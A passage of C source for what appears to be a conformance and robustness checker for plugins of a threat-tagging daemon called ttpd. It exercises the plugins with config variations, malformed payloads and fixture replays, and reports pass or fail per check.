		set_detail("loaded, destroyed, loaded again and destroyed");
		return V_PASS;
	}
	set_detail("%s%s", r == 2 ? "second load refused: " : r == 1 ?
	    "first load refused: " : "", msg);
	return V_FAIL;
}

static int
chk_config_missing(void)
{
	struct failures f;
	const ttpd_config_key *k;
	ttpd_value *base = base_config(1), *c;
	char name[300];
	struct names nm;
	size_t i;

	memset(&f, 0, sizeof f);
	config_case(&f, "no config group at all", NULL,
	    has_required_key() ? -1 : 1);
	/* each key left out of a config that has all of them */
	nm = member_names(base);
	for (i = 0; i < nm.n; i++) {
		int required = 0;

		for (k = cur->p->desc->config_keys; k != NULL &&
		    k->name != NULL; k++)
			if (strcmp(k->name, nm.v[i]) == 0)
				required = k->required;
		snprintf(name, sizeof name, "without %s key '%s'", required ?
		    "required" : "optional", nm.v[i]);
		c = with_member(base, nm.v[i], NULL);
		config_case(&f, name, c, required ? -1 : 0);
		jv_decref(c);
	}
	free(nm.v);
	jv_decref(base);
	return failures_verdict(&f, "cases: refused with a reason or loaded");
}

static int
chk_config_unknown(void)
{
	struct failures f;
	const ttpd_config_key *k;
	ttpd_value *base = base_config(0), *c, *inner;
	char name[300];

	memset(&f, 0, sizeof f);
	c = jv_copy_object(base);
	jv_object_set_new(c, "ttpd_check_unknown", jv_new_int(1));
	config_case(&f, "unknown top-level key", c, -1);
	jv_decref(c);
	/* inside groups and lists only the plugin can judge */
	for (k = cur->p->desc->config_keys; k != NULL && k->name != NULL;
	    k++) {
		if (k->type == TTPD_CFG_GROUP) {
			const ttpd_value *g = jv_object_get(base, k->name);

			inner = g != NULL && jv_type(g) == TTPD_VT_OBJECT ?
			    jv_copy_object(g) : jv_new_object();
			jv_object_set_new(inner, "ttpd_check_unknown",
			    jv_new_int(1));
		} else if (k->type == TTPD_CFG_LIST) {
			ttpd_value *o = jv_new_object();

			jv_object_set_new(o, "ttpd_check_unknown",
			    jv_new_int(1));
			inner = jv_new_array();
			jv_array_append_new(inner, o);
		} else
			continue;
		snprintf(name, sizeof name, "unknown member inside %s '%s'",
		    k->type == TTPD_CFG_GROUP ? "group" : "list", k->name);
		c = jv_copy_object(base);
		jv_object_set_new(c, k->name, inner);
		config_case(&f, name, c, 0);
		jv_decref(c);
	}
	jv_decref(base);
	return failures_verdict(&f, "cases: refused with a reason or loaded");
}

static int
chk_config_wrong_type(void)
{
	struct failures f;
	const ttpd_config_key *k;
	ttpd_value *base = base_config(0), *all = base_config(1), *c, *items;
	char name[300];

	memset(&f, 0, sizeof f);
	for (k = cur->p->desc->config_keys; k != NULL && k->name != NULL;
	    k++) {
		snprintf(name, sizeof name, "key '%s' of the wrong type",
		    k->name);
		c = jv_copy_object(base);
		jv_object_set_new(c, k->name, config_mistyped(k->type));
		config_case(&f, name, c, -1);
		jv_decref(c);
		if (k->type != TTPD_CFG_LIST)
			continue;
		/* list items are the plugin's to check */
		items = jv_new_array();
		jv_array_append_new(items, jv_new_int(1));
		jv_array_append_new(items, jv_new_string("x", 1));
		jv_array_append_new(items, jv_new_bool(0));
		jv_array_append_new(items, jv_new_array());
		snprintf(name, sizeof name, "list '%s' of mixed item types",
		    k->name);
		c = jv_copy_object(base);
		jv_object_set_new(c, k->name, items);
		config_case(&f, name, c, 0);
		jv_decref(c);
	}
	/* every key present with its declared type: what the plugin reads
	 * must be what it declared */
	config_case(&f, "every declared key with a value of its type", all, 0);
	jv_decref(all);
	jv_decref(base);
	return failures_verdict(&f, "cases: refused with a reason or loaded");
}

static int
chk_kinds_declared(void)
{
	const char *const *k;
	struct failures f;
	struct case_out co;
	unsigned long tags = 0;
	char why[128], name[200];

	memset(&f, 0, sizeof f);
	for (k = cur->p->desc->source_kinds; *k != NULL; k++) {
		ttpd_value *p = typical_payload(*k);

		snprintf(name, sizeof name, "typical %s event", *k);
		progress("case '%s'", name);
		f.cases++;
		if (run_case(*k, p, &co, why, sizeof why) != 0)
			fail_case(&f, "case '%s': %s", name, why);
		else {
			account(name, &co, 1);
			tags += co.ntags;
			if (co.rc < 0 || !rc_defined(co.rc))
				fail_case(&f, "case '%s': handle() returned "
				    "%d: %s", name, co.rc, co.msg[0] != '\0' ?
				    co.msg : "(no message)");
		}
		jv_decref(p);
		/* and an empty one */
		p = jv_new_object();
		snprintf(name, sizeof name, "empty %s event", *k);
		progress("case '%s'", name);
		f.cases++;
		if (run_case(*k, p, &co, why, sizeof why) != 0)
			fail_case(&f, "case '%s': %s", name, why);
		else {
			account(name, &co, 1);
			if (!rc_defined(co.rc) || co.rc == TTPD_EFATAL)
				fail_case(&f, "case '%s': handle() returned %d",
				    name, co.rc);
		}
		jv_decref(p);
	}
	if (f.n > 0)
		return failures_verdict(&f, "");
	set_detail("%u cases, every declared kind handled (%lu tags)", f.cases,
	    tags);
	return V_PASS;
}

static int
merge_member(void *ud, const char *key, const ttpd_value *val)
{
	if (jv_object_get(ud, key) == NULL)
		jv_object_set(ud, key, val);
	return 0;
}

static int
chk_kinds_undeclared(void)
{
	const char *const *all = source_kinds_known(), *const *k;
	struct failures f;
	struct case_out co;
	ttpd_value *fields = jv_new_object();
	char why[128], name[200];
	size_t n;

	memset(&f, 0, sizeof f);
	/* every field the plugin would look at on its own kinds */
	for (k = cur->p->desc->source_kinds; *k != NULL; k++) {
		ttpd_value *p = typical_payload(*k);

		jv_object_foreach(p, merge_member, fields);
		jv_decref(p);
	}
	for (k = all; *k != NULL; k++) {
		ttpd_value *p;

		if (declares_kind(*k))
			continue;
		if (registry_plugins_for(&cur->reg, *k, &n) != NULL && n > 0) {
			fail_case(&f, "ttpd would dispatch undeclared kind %s "
			    "to it", *k);
			continue;
		}
		p = typical_payload(*k);
		jv_object_foreach(fields, merge_member, p);
		snprintf(name, sizeof name, "%s event (not declared)", *k);
		progress("case '%s'", name);
		f.cases++;
		if (run_case(*k, p, &co, why, sizeof why) != 0)
			fail_case(&f, "case '%s': %s", name, why);
		else if (co.ntags > 0)
			fail_case(&f, "case '%s': %lu tags for a kind it does "
			    "not declare", name, co.ntags);
		jv_decref(p);
	}
	jv_decref(fields);
	if (f.cases == 0 && f.n == 0) {
		set_detail("every known source kind is declared");
		return V_PASS;
	}
	return failures_verdict(&f, "undeclared kinds: no tags");
}

typedef ttpd_value *(*mutator)(const ttpd_value *, void *);

static void
mutate_case(struct failures *f, const char *casename, const char *kind,
    const ttpd_value *base, mutator fn, void *ud, int factor)
{
	ttpd_value *p = map_members(base, fn, ud);

	bad_event_case(f, casename, kind, p, factor);
	jv_decref(p);
}

static int
chk_malformed(void)
{
	const char *const *k;
	struct failures f;
	int arr = T_ARRAY, obj = T_OBJECT, null = T_NULL;

	memset(&f, 0, sizeof f);
	for (k = cur->p->desc->source_kinds; *k != NULL; k++) {
		ttpd_value *base = typical_payload(*k), *p;

		p = jv_new_object();
		bad_event_case(&f, "empty payload {}", *k, p, 1);
		jv_decref(p);
		mutate_case(&f, "every field null", *k, base, to_type, &null,
		    1);
		mutate_case(&f, "every field an empty object", *k, base,
		    empty_of_type, &obj, 1);
		mutate_case(&f, "every field an empty array", *k, base,
		    empty_of_type, &arr, 1);
		mutate_case(&f, "arrays and objects of junk", *k, base,
		    junk_containers, NULL, 1);
		p = jv_copy_object(base);
		jv_object_set_new(p, "", jv_new_string("x", 1));
		jv_object_set_new(p, "/", jv_new_string("x", 1));
		jv_object_set_new(p, "a.b", jv_new_string("x", 1));
		jv_object_set_new(p, "~0", jv_new_string("x", 1));
		bad_event_case(&f, "odd member names", *k, p, 1);
		jv_decref(p);
		jv_decref(base);
	}
	return failures_verdict(&f, "cases: no crash, no hang, no EFATAL");
}

static int
chk_truncated(void)
{
	const char *const *k;
	struct failures f;
	int half = 0, empty = 1;
	char name[300];

	memset(&f, 0, sizeof f);
	for (k = cur->p->desc->source_kinds; *k != NULL; k++) {
		ttpd_value *base = typical_payload(*k);
		struct names nm = member_names(base);
		size_t i;

		mutate_case(&f, "strings cut in half", *k, base, cut_string,
		    &half, 1);
		mutate_case(&f, "strings emptied", *k, base, cut_string,
		    &empty, 1);
		mutate_case(&f, "arrays cut to one element", *k, base,
		    cut_array, &half, 1);
		mutate_case(&f, "arrays emptied", *k, base, cut_array, &empty,
		    1);
		for (i = 0; i < nm.n; i++) {
			ttpd_value *p = with_member(base, nm.v[i], NULL);

			snprintf(name, sizeof name, "without '%s'", nm.v[i]);
			bad_event_case(&f, name, *k, p, 1);
			jv_decref(p);
		}
		free(nm.v);
		jv_decref(base);
	}
	return failures_verdict(&f, "cases: no crash, no hang, no EFATAL");
}

static int
chk_huge(void)
{
	const char *const *k;
	struct failures f;
	int i;

	memset(&f, 0, sizeof f);
	for (k = cur->p->desc->source_kinds; *k != NULL; k++) {
		ttpd_value *base = typical_payload(*k), *p;
		char key[16];

		mutate_case(&f, "256 KiB strings", *k, base, huge_string, NULL,
		    HUGE_BUDGET_FACTOR);
		mutate_case(&f, "10000-element arrays", *k, base, huge_array,
		    NULL, HUGE_BUDGET_FACTOR);
		mutate_case(&f, "every field nested 200 levels deep", *k, base,
		    deep_value, NULL, HUGE_BUDGET_FACTOR);
		p = jv_copy_object(base);
		for (i = 0; i < HUGE_MEMBERS; i++) {
			snprintf(key, sizeof key, "k%05d", i);
			jv_object_set_new(p, key, jv_new_string("v", 1));
		}
		bad_event_case(&f, "10000 extra members", *k, p,
		    HUGE_BUDGET_FACTOR);
		jv_decref(p);
		jv_decref(base);
	}
	return failures_verdict(&f, "cases: no crash, no hang, no EFATAL");
}

static int
chk_wrong_type(void)
{
	const char *const *k;
	struct failures f;
	char name[300];

	memset(&f, 0, sizeof f);
	for (k = cur->p->desc->source_kinds; *k != NULL; k++) {
		ttpd_value *base = typical_payload(*k);
		struct names nm = member_names(base);
		size_t i;
		int t;

		for (i = 0; i < nm.n; i++) {
			const ttpd_value *v = jv_object_get(base, nm.v[i]);

			for (t = 0; t < NT; t++) {
				ttpd_value *p;

				if (t == vt_of(v))
					continue;
				p = with_member(base, nm.v[i],
				    value_of_type(t));
				snprintf(name, sizeof name, "%s as %s",
				    nm.v[i], vt_names[t]);
				bad_event_case(&f, name, *k, p, 1);
				jv_decref(p);
			}
			/* members of the first element of an array of
			 * objects (e.g. session commands) */
			if (jv_type(v) == TTPD_VT_ARRAY && jv_type(
			    jv_array_get(v, 0)) == TTPD_VT_OBJECT) {
				const ttpd_value *el = jv_array_get(v, 0);
				struct names em = member_names(el);
				size_t j;
				static const int some[] = { T_NULL, T_INT,
				    T_ARRAY, T_OBJECT };

				for (j = 0; j < em.n; j++)
					for (t = 0; t < 4; t++) {
						ttpd_value *a = jv_new_array(),
						    *p;

						jv_array_append_new(a,
						    with_member(el, em.v[j],
						    value_of_type(some[t])));
						p = with_member(base, nm.v[i],
						    a);
						snprintf(name, sizeof name,
						    "%s[0].%s as %s", nm.v[i],
						    em.v[j],
						    vt_names[some[t]]);
						bad_event_case(&f, name, *k, p,
						    1);
						jv_decref(p);
					}
				free(em.v);
			}
		}
		free(nm.v);
		jv_decref(base);
	}
	return failures_verdict(&f, "cases: no crash, no hang, no EFATAL");
}

static int
chk_utf8(void)
{
	const char *const *k;
	struct failures f;
	unsigned refused = 0;
	char name[300], perr[128];
	size_t i;

	memset(&f, 0, sizeof f);
	/* Not UTF-8: the host's parser must refuse the line before any
	 * plugin sees it. */
	for (i = 0; i < sizeof bad_utf8 / sizeof bad_utf8[0]; i++) {
		char *line;
		ttpd_value *v;

		f.cases++;
		if (asprintf(&line, "{\"source_kind\":\"%s\",\"source_id\":"
		    "\"x\",\"attacker_uuid\":\"%s\",\"payload\":{\"text\":"
		    "\"a%sb\"}}", cur->p->desc->source_kinds[0],
		    CHECK_ATTACKER, bad_utf8[i].bytes) == -1)
			continue;
		v = jv_parse(line, strlen(line), perr, sizeof perr);
		free(line);
		if (v == NULL)
			refused++;
		else {
			fail_case(&f, "ttpd accepted an event with %s",
			    bad_utf8[i].name);
			jv_decref(v);
		}
	}
	/* Valid but unusual text in every string field. */
	for (k = cur->p->desc->source_kinds; *k != NULL; k++) {
		ttpd_value *base = typical_payload(*k);

		for (i = 0; i < sizeof odd_texts / sizeof odd_texts[0]; i++) {
			snprintf(name, sizeof name, "strings starting with %s",
			    odd_texts[i].name);
			mutate_case(&f, name, *k, base, splice_odd, &i, 1);
		}
		jv_decref(base);
	}
	if (f.n > 0)
		return failures_verdict(&f, "");
	set_detail("%u cases: %u byte strings that are not UTF-8 refused by "
	    "the host, unusual code points handled", f.cases, refused);
	return V_PASS;
}

/* --- fixtures ------------------------------------------------------------- */

static int
has_suffix(const char *s, const char *suffix)
{
	size_t n = strlen(s), m = strlen(suffix);

	return n >= m && strcmp(s + n - m, suffix) == 0;
}

static int
cmp_names(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* Replay one events file; the tags as text (malloc'd). */
static char *
replay_file(const char *path, unsigned long *nevents, char *err,
    size_t errlen)
{
	struct tag_settings ts = { .attack_release = "v15.1" };
	struct anchor_policy anchors = { .lookup_ip = NULL };
	struct event_list events;
	struct tag_list tags;
	FILE *fp;
	char *line = NULL, *out = xstrdup(""), perr[256];
	size_t cap = 0, i, outlen = 0;
	ssize_t n;
	unsigned long lineno = 0;

	if ((fp = fopen(path, "r")) == NULL) {
		snprintf(err, errlen, "%s: %s", path, strerror(errno));
		free(out);
		return NULL;
	}
	event_list_init(&events);
	tag_list_init(&tags);
	while ((n = getline(&line, &cap, fp)) != -1) {
		ttpd_value *v;

		lineno++;
		while (n > 0 && (line[n - 1] == '\n' || line[n - 1] == '\r'))
			line[--n] = '\0';
		if (n == 0)
			continue;
		if ((v = jv_parse(line, (size_t)n, perr, sizeof perr)) ==
		    NULL) {
			snprintf(err, errlen, "%s:%lu: %s", path, lineno, perr);
			free(out);
			out = NULL;
			break;
		}
		event_list_clear(&events);
		if (event_build(v, &anchors, &events, perr, sizeof perr) ==
		    EVENT_BAD) {
			snprintf(err, errlen, "%s:%lu: %s", path, lineno, perr);
			jv_decref(v);
			free(out);
			out = NULL;
			break;
		}
		jv_decref(v);
		for (i = 0; i < events.n; i++) {
			const ttpd_event *ev = &events.v[i].pub;
			size_t np;

			registry_plugins_for(&cur->reg, ev->source_kind, &np);
			if (np == 0)
				continue;
			progress("fixture %s:%lu (%s event)", path, lineno,
			    ev->source_kind);
			(*nevents)++;
			hostapi_run(cur->p, ev, &ts, 0, &tags);
		}
		for (i = 0; i < tags.n; i++) {
			/* without created_at: it depends on when the check runs */
			char *tl = tag_json_line(&tags.v[i], 0);
			size_t tn = tl != NULL ? strlen(tl) : 0;

			out = xrealloc(out, outlen + tn + 1);
			memcpy(out + outlen, tl != NULL ? tl : "", tn + 1);
			outlen += tn;
			free(tl);
		}
		tag_list_truncate(&tags, 0);
	}
	free(line);
	fclose(fp);
	event_list_free(&events);
	tag_list_free(&tags);
	return out;
}

static int
chk_fixtures(void)
{
	char evdir[PATH_MAX], expdir[PATH_MAX], path[PATH_MAX * 2];
	char err[PATH_MAX * 2 + 512];
	DIR *d;
	struct dirent *de;
	char **names = NULL;
	size_t nnames = 0, i;
	unsigned long nevents = 0, ntags = 0;
	int verdict = V_PASS;

	if (opt.fixtures == NULL) {
		set_detail("no fixture directory (-d)");
		return V_SKIP;
	}
	snprintf(evdir, sizeof evdir, "%s/events", opt.fixtures);
	snprintf(expdir, sizeof expdir, "%s/expected", opt.fixtures);
	if ((d = opendir(evdir)) == NULL) {
		set_detail("%s: %s", evdir, strerror(errno));
		return V_FAIL;
	}
	while ((de = readdir(d)) != NULL)
		if (de->d_name[0] != '.' && has_suffix(de->d_name, ".jsonl")) {
			names = xreallocarray(names, nnames + 1,
			    sizeof *names);
			names[nnames++] = xstrdup(de->d_name);
		}
	closedir(d);
	if (nnames == 0) {
		set_detail("%s holds no *.jsonl files", evdir);
		return V_FAIL;
	}
	qsort(names, nnames, sizeof *names, cmp_names);
	if (opt.update)
		(void)mkdir(expdir, 0755);
	for (i = 0; i < nnames && verdict == V_PASS; i++) {
		char *got, *want;
		size_t wlen, line = 1, k;

		snprintf(path, sizeof path, "%s/%s", evdir, names[i]);
		got = replay_file(path, &nevents, err, sizeof err);
		if (got == NULL) {
			set_detail("%s", err);
			verdict = V_FAIL;
			break;
		}
		for (k = 0; got[k] != '\0'; k++)
			ntags += got[k] == '\n';
		snprintf(path, sizeof path, "%s/%s", expdir, names[i]);
		if (opt.update) {
			FILE *fp = fopen(path, "w");

			if (fp == NULL || fputs(got, fp) == EOF ||
			    fclose(fp) != 0) {
				set_detail("%s: cannot write: %s", path,
				    strerror(errno));
				verdict = V_FAIL;
			}
			free(got);
			continue;
		}
		want = NULL;
		{
			FILE *fp = fopen(path, "r");

			if (fp != NULL) {
				want = NULL;
				wlen = 0;
				if (getdelim(&want, &wlen, '\0', fp) == -1) {
					free(want);
					want = xstrdup("");
				}
				fclose(fp);
			}
		}
		if (want == NULL) {
			set_detail("%s: %s (write it with -u after checking "
			    "the tags by hand)", path, strerror(errno));
			verdict = V_FAIL;
		} else if (strcmp(got, want) != 0) {
			const char *g = got, *w = want;

			while (*g != '\0' && *g == *w) {
				if (*g == '\n')
					line++;
				g++;
				w++;
			}
			/* show both lines from their start */
			while (g > got && g[-1] != '\n') {
				g--;
				w--;
			}
			set_detail("%s differs from the tags of events/%s at "
			    "line %zu: expected %.*s, got %.*s", path,
			    names[i], line, (int)strcspn(w, "\n"), w,
			    (int)strcspn(g, "\n"), g);
			verdict = V_FAIL;
		}
		free(want);
		free(got);
	}
	for (i = 0; i < nnames; i++)
		free(names[i]);
	free(names);
	if (verdict == V_PASS)
		set_detail("%zu file%s, %lu events, %lu tags %s", nnames,
		    nnames == 1 ? "" : "s", nevents, ntags, opt.update ?
		    "written to expected/" : "as expected");
	return verdict;
}

/* --- driver --------------------------------------------------------------- */

struct check {
	const char *name;
	int (*fn)(void);
	int with_rules;
};

static const struct check checks[] = {
	{ "descriptor", chk_descriptor, 0 },
	{ "rules", chk_rules, 1 },
	{ "init-destroy-twice", chk_init_twice, 0 },
	{ "config-missing", chk_config_missing, 0 },
	{ "config-unknown", chk_config_unknown, 0 },
	{ "config-wrong-type", chk_config_wrong_type, 0 },
	{ "kinds-declared", chk_kinds_declared, 1 },
	{ "kinds-undeclared", chk_kinds_undeclared, 1 },
	{ "payload-malformed", chk_malformed, 1 },
	{ "payload-truncated", chk_truncated, 1 },
	{ "payload-huge", chk_huge, 1 },
	{ "fields-wrong-type", chk_wrong_type, 1 },
	{ "invalid-utf8", chk_utf8, 1 },
	{ "fixtures", chk_fixtures, 1 },
};
#define NCHECKS (sizeof checks / sizeof checks[0])

static unsigned npass, nfail, nskip;

static void
report(const char *name, int verdict, const char *detail)
{
	static const char *const word[] = { "PASS", "FAIL", "SKIP" };

	printf("%s %s: %s\n", word[verdict], name, detail);
	fflush(stdout);
	if (verdict == V_PASS)
		npass++;
	else if (verdict == V_FAIL)
		nfail++;
	else
		nskip++;
}

/* Run one check in a child that loads the plugin itself. */
static int
run_check(const struct check *c)
{
	pid_t pid;
	int status;
	char why[128];

	sh->verdict = -1;
	sh->detail[0] = '\0';
	sh->progress[0] = '\0';
	fflush(NULL);
	if ((pid = fork()) == -1) {
		report(c->name, V_FAIL, strerror(errno));
		return V_FAIL;
	}
	if (pid == 0) {
		struct session s;
		char err[1024];
		int v;

		child_setup(CHECK_TIMEOUT_S);
		progress("loading the plugin");
		if (session_open(&s, opt.config, c->with_rules, err,
		    sizeof err) != 0) {
			set_detail("%s", err);
			sh->verdict = V_FAIL;
			_exit(0);
		}
		cur = &s;
		v = c->fn();
		progress("destroying the plugin");
		session_close(&s);
		sh->verdict = v;
		_exit(0);
	}
	while (waitpid(pid, &status, 0) == -1 && errno == EINTR)
		continue;
	if (!WIFEXITED(status) || WEXITSTATUS(status) != 0 ||
	    sh->verdict < 0) {
		char detail[sizeof sh->detail];

		describe_status(status, CHECK_TIMEOUT_S, why, sizeof why);
		snprintf(detail, sizeof detail, "%s while %s", why,
		    sh->progress[0] != '\0' ? sh->progress : "starting");
		report(c->name, V_FAIL, detail);
		return V_FAIL;
	}
	report(c->name, sh->verdict, sh->detail);
	return sh->verdict;
}

static void
report_totals(void)
{
	const struct stats *st = &sh->st;
	char buf[sizeof sh->detail];

	if (st->unterminated > 0) {
		snprintf(buf, sizeof buf, "%lu error message%s without a NUL "
		    "in %lu calls; first in %s (use ttpd_err_set())",
		    st->unterminated, st->unterminated == 1 ? "" : "s",
		    st->calls, st->first_unterminated);
		report("error-strings", V_FAIL, buf);
	} else if (st->unset > 0) {
		snprintf(buf, sizeof buf, "%lu error%s returned without a "
		    "message; first in %s (say why with ttpd_err_set())",
		    st->unset, st->unset == 1 ? "" : "s", st->first_unset);
		report("error-strings", V_FAIL, buf);
	} else {
		snprintf(buf, sizeof buf, "every error message NUL-terminated "
		    "(%lu calls)", st->calls);
		report("error-strings", V_PASS, buf);
	}
	if (st->over_budget > 0) {
		snprintf(buf, sizeof buf, "%lu event%s over budget; first: %s",
		    st->over_budget, st->over_budget == 1 ? "" : "s",
		    st->first_over);
		report("time-budget", V_FAIL, buf);
	} else {
		snprintf(buf, sizeof buf, "slowest %.1f ms of CPU (%s), budget "
		    "%.1f ms", (double)st->max_cpu_ns / 1e6,
		    st->slowest[0] != '\0' ? st->slowest : "-",
		    (double)opt.budget_ns / 1e6);
		report("time-budget", V_PASS, buf);
	}
}

/* -c: the config group (and rules.dirs) of this plugin's entry. */
static int
read_conf(const char *path, struct config *cfg)
{
	char err[2048];
	size_t i;

	if (config_load(path, NULL, 0, cfg, err, sizeof err) != 0) {
		fprintf(stderr, "ttpd-plugin-check: %s\n", err);
		return -1;
	}
	for (i = 0; i < cfg->nplugins; i++)
		if (strcmp(cfg->plugins[i].name, opt.name) == 0)
			opt.config = cfg->plugins[i].config;
	if (opt.nrule_dirs == 0) {
		opt.rule_dirs = (const char **)cfg->rules_dirs;
		opt.nrule_dirs = cfg->nrules_dirs;
	}
	return 0;
}

int
main(int argc, char **argv)
{
	struct config cfg;
	const char *conf = NULL, *name = NULL;
	char *base, *dot;
	size_t i;
	int ch, have_conf = 0, own_dirs = 0;
	long ms = DEFAULT_BUDGET_MS;

	memset(&cfg, 0, sizeof cfg);
	while ((ch = getopt(argc, argv, "b:c:d:hn:r:uVv")) != -1) {
		switch (ch) {
		case 'b':
			ms = strtol(optarg, &dot, 10);
			if (*dot != '\0' || ms <= 0 || ms > 3600000) {
				fprintf(stderr, "ttpd-plugin-check: -b wants "
				    "milliseconds (1 to 3600000)\n");
				return 2;
			}
			break;
		case 'c':
			conf = optarg;
			break;
		case 'd':
			opt.fixtures = optarg;
			break;
		case 'n':
			name = optarg;
			break;
		case 'r':
			opt.rule_dirs = xreallocarray(opt.rule_dirs,
			    opt.nrule_dirs + 1, sizeof *opt.rule_dirs);
			opt.rule_dirs[opt.nrule_dirs++] = optarg;
			own_dirs = 1;
			break;
		case 'u':
			opt.update = 1;
			break;
		case 'V':
			printf("ttpd-plugin-check %s (plugin ABI %d.%d)\n",
			    PACKAGE_VERSION, TTPD_ABI_MAJOR, TTPD_ABI_MINOR);
			return 0;
		case 'v':
			opt.verbose = 1;
			break;
		case 'h':
			usage(stdout);
			return 0;
		default:
			usage(stderr);
			return 2;
		}
	}
	if (argc - optind != 1) {
		usage(stderr);
		return 2;
	}
	if (opt.update && opt.fixtures == NULL) {
		fprintf(stderr, "ttpd-plugin-check: -u needs -d\n");
		return 2;
	}
	opt.budget_ns = (int64_t)ms * 1000000;
	log_init("ttpd-plugin-check", LOG_TARGET_STDERR,
	    opt.verbose ? TTPD_LOG_DEBUG : 0);
	/* the loader wants an absolute, resolvable path like plugins.dir */
	if ((opt.so = realpath(argv[optind], NULL)) == NULL) {
		fprintf(stderr, "ttpd-plugin-check: %s: %s\n", argv[optind],
		    strerror(errno));
		return 1;
	}
	if (name != NULL)
		opt.name = xstrdup(name);
	else {
		base = strrchr(opt.so, '/');
		opt.name = xstrdup(base != NULL ? base + 1 : opt.so);
		if ((dot = strstr(opt.name, ".so")) != NULL && dot[3] == '\0')
			*dot = '\0';
	}
	if (conf != NULL) {
		if (read_conf(conf, &cfg) != 0)
			return 1;
		have_conf = 1;
	}
	sh = mmap(NULL, sizeof *sh, PROT_READ | PROT_WRITE,
	    MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (sh == MAP_FAILED) {
		fprintf(stderr, "ttpd-plugin-check: mmap: %s\n",
		    strerror(errno));
		return 1;
	}
	memset(sh, 0, sizeof *sh);
	/* an error buffer the plugin leaves without a NUL shows */
	hostapi_set_err_fill(ERR_FILL);

	printf("ttpd-plugin-check %s: %s as '%s' (host ABI %d.%d)\n",
	    PACKAGE_VERSION, opt.so, opt.name, TTPD_ABI_MAJOR,
	    TTPD_ABI_MINOR);
	if (run_check(&checks[0]) != V_PASS) {
		for (i = 1; i < NCHECKS; i++)
			report(checks[i].name, V_SKIP, "the plugin does not "
			    "load");
	} else {
		for (i = 1; i < NCHECKS; i++)
			run_check(&checks[i]);
		report_totals();
	}
	printf("summary: %u passed, %u failed, %u skipped\n", npass, nfail,
	    nskip);
	munmap(sh, sizeof *sh);
	if (own_dirs)
		free(opt.rule_dirs);
	if (have_conf)
		config_free(&cfg);
	free(opt.so);
	free(opt.name);
	return nfail > 0 ? 1 : 0;
}
